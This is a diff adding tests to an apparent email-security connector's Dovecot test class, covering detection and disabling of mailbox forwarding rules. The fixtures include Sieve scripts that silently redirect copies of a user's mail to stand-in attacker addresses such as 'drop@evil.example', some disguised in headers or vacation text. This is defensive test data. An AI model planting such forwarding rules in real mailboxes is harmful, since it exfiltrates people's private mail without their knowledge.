@@ -2,12 +2,16 @@ package dev.quaestor.connector.imap;
 
 import dev.quaestor.connector.capability.AttachmentQuarantineContract;
 import dev.quaestor.connector.capability.BackEnd;
+import dev.quaestor.connector.capability.MailForwardingContract;
 import dev.quaestor.connector.capability.MailRemediationContract;
 import dev.quaestor.connector.capability.MailSearchContract;
+import dev.quaestor.connector.capability.MailboxRulesContract;
 import dev.quaestor.entity.EntityKey;
 import dev.quaestor.entity.MailCluster;
 import dev.quaestor.entity.MailCluster.Field;
 import dev.quaestor.entity.MailMessage;
+import dev.quaestor.entity.Mailbox;
+import dev.quaestor.entity.MailboxRule;
 import dev.quaestor.text.Sha256;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
@@ -244,6 +248,116 @@ class DovecotContractAsRootTest {
           .flatMap(lying -> NAMES.matcher(RealDovecot.read(lying.file())).results())
           .map(name -> name.group(1))
           .toList();
+    }
+  }
+
+  private static final String OUTWARD =
+      """
+      require ["fileinto", "copy"];
+      if header :contains "subject" "redirect \\"x@evil.example\\";" {
+        redirect :copy "drop@evil.example"; # redirect "a@b";
+      }
+      """;
+
+  private static final String BOTH =
+      """
+      require ["fileinto", "include", "vacation"];
+      vacation :days 3 text:
+      redirect "mallory@evil.example";
+      .
+      ;
+      redirect "kim@contoso.example";
+      redirect
+        "drop@evil.example" ;
+      fileinto "Work";
+      """;
+
+  private static final String INWARD = "redirect \"kim@contoso.example\";\n";
+
+  private static MailboxRule script(String mailbox) {
+    return new MailboxRule(mailbox, "main", "main", true, List.of());
+  }
+
+  @Nested
+  class Ruling extends MailboxRulesContract {
+    @BeforeEach
+    void write() {
+      dovecot.activate(MEGAN, "main", BOTH);
+    }
+
+    @Override
+    protected BackEnd backEnd() {
+      return dovecot;
+    }
+
+    @Override
+    protected Mailbox forwarding() {
+      return new Mailbox(MEGAN, null);
+    }
+
+    @Override
+    protected Set<String> recipients() {
+      return Set.of("drop@evil.example", KIM);
+    }
+
+    @Override
+    protected Mailbox plain() {
+      return new Mailbox(ADELE, null);
+    }
+
+    @Override
+    protected Mailbox outOfReach() {
+      return new Mailbox("ghost@contoso.example", null);
+    }
+  }
+
+  @Nested
+  class TurningOff extends MailForwardingContract {
+    @BeforeEach
+    void write() {
+      dovecot.activate(MEGAN, "main", OUTWARD);
+      dovecot.activate(ADELE, "main", BOTH);
+      dovecot.activate(LEE, "main", INWARD);
+    }
+
+    @Override
+    protected BackEnd backEnd() {
+      return dovecot;
+    }
+
+    @Override
+    protected MailboxRule outward() {
+      return script(MEGAN);
+    }
+
+    @Override
+    protected MailboxRule both() {
+      return script(ADELE);
+    }
+
+    @Override
+    protected MailboxRule inward() {
+      return script(LEE);
+    }
+
+    @Override
+    protected MailboxRule gone() {
+      return script(KIM);
+    }
+
+    @Override
+    protected Object asItIs(MailboxRule rule) {
+      return dovecot.active(rule.mailbox());
+    }
+
+    @Override
+    protected boolean sendsOutside(MailboxRule rule) {
+      return dovecot.active(rule.mailbox()).orElse("").contains("\"drop@evil.example\"");
+    }
+
+    @Override
+    protected void somebodyChanges(MailboxRule rule) {
+      dovecot.activate(rule.mailbox(), "main", "keep;\n");
     }
   }
 }
